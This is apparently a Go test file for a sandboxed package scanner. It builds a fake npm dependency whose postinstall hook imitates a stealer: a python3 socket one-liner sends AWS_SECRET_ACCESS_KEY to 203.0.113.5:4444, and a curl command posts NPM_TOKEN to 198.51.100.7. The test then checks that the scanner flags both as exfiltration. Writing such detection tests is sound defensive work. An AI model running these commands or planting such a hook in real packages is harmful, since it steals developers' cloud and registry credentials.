package scan_test

import (
	"slices"
	"strconv"
	"testing"

	"github.com/depbox/depbox/profile"
)

// TestConnectToAddress: a connection to an address no name resolved to (an
// IP literal in the code) reaches the fake internet, which records what
// was sent there under that address, so that a theft over raw TCP or HTTP
// to an address is seen even from programs the hook does not watch
// (python3, curl), and a DNS server given by address answers like the
// resolver's; other link-local addresses than the cloud's stay
// unreachable. The package imitates a stealer; it runs only in the sandbox
// and contacts only documentation addresses.
func TestConnectToAddress(t *testing.T) {
	requirePython(t)
	install := `python3 -c "import os, socket; s = socket.create_connection(('203.0.113.5', 4444), timeout=5); s.sendall(b'k=' + os.environ['AWS_SECRET_ACCESS_KEY'].encode()); s.close()"; ` +
		`printf 't=%s' "$NPM_TOKEN" | curl -s -m 5 --data-binary @- http://198.51.100.7/c >/dev/null; ` +
		`curl -s -m 2 http://169.254.1.1/ >/dev/null; nslookup lit.anyip.invalid 198.51.100.53 >/dev/null; true`
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{
		"package.json":                  `{"name":"fn","version":"1.0.0","dependencies":{"lit":"1.0.0"}}`,
		"index.js":                      `exports.handler = async () => 1;`,
		"node_modules/lit/package.json": `{"name":"lit","version":"1.0.0","scripts":{"postinstall":` + strconv.Quote(install) + `}}`,
		"node_modules/lit/index.js":     `module.exports = 1;`,
	})
	p := run(t, options(t, dir))
	b := phaseOf(t, p, "node_modules/lit", profile.PhaseInstall)
	for _, want := range []struct {
		canary, dest string
	}{{"AWS_SECRET_ACCESS_KEY", "203.0.113.5:4444"}, {"NPM_TOKEN", "198.51.100.7:80"}} {
		if !slices.ContainsFunc(b.Exfiltration, func(e profile.Exfil) bool {
			return e.Canary == want.canary && e.Channel == "network" && e.Destination == want.dest && !e.Partial
		}) {
			t.Errorf("%s sent to %s is not exfiltration: %+v", want.canary, want.dest, b.Exfiltration)
		}
	}
	if !slices.ContainsFunc(b.DNS, func(q profile.DNSQuery) bool { return q.Name == "lit.anyip.invalid" }) {
		t.Errorf("the query nslookup sent to 198.51.100.53 is not among %+v", b.DNS)
	}
	for _, want := range []struct {
		addr   string
		port   int
		result string // "" is a connection made
	}{{"203.0.113.5", 4444, ""}, {"198.51.100.7", 80, ""}, {"169.254.1.1", 80, "ENETUNREACH"}} {
		if !slices.ContainsFunc(b.Network, func(n profile.Endpoint) bool {
			return n.Address == want.addr && n.Port == want.port && n.Result == want.result
		}) {
			t.Errorf("no connection to %s:%d (result %q) in %+v", want.addr, want.port, want.result, b.Network)
		}
	}
}
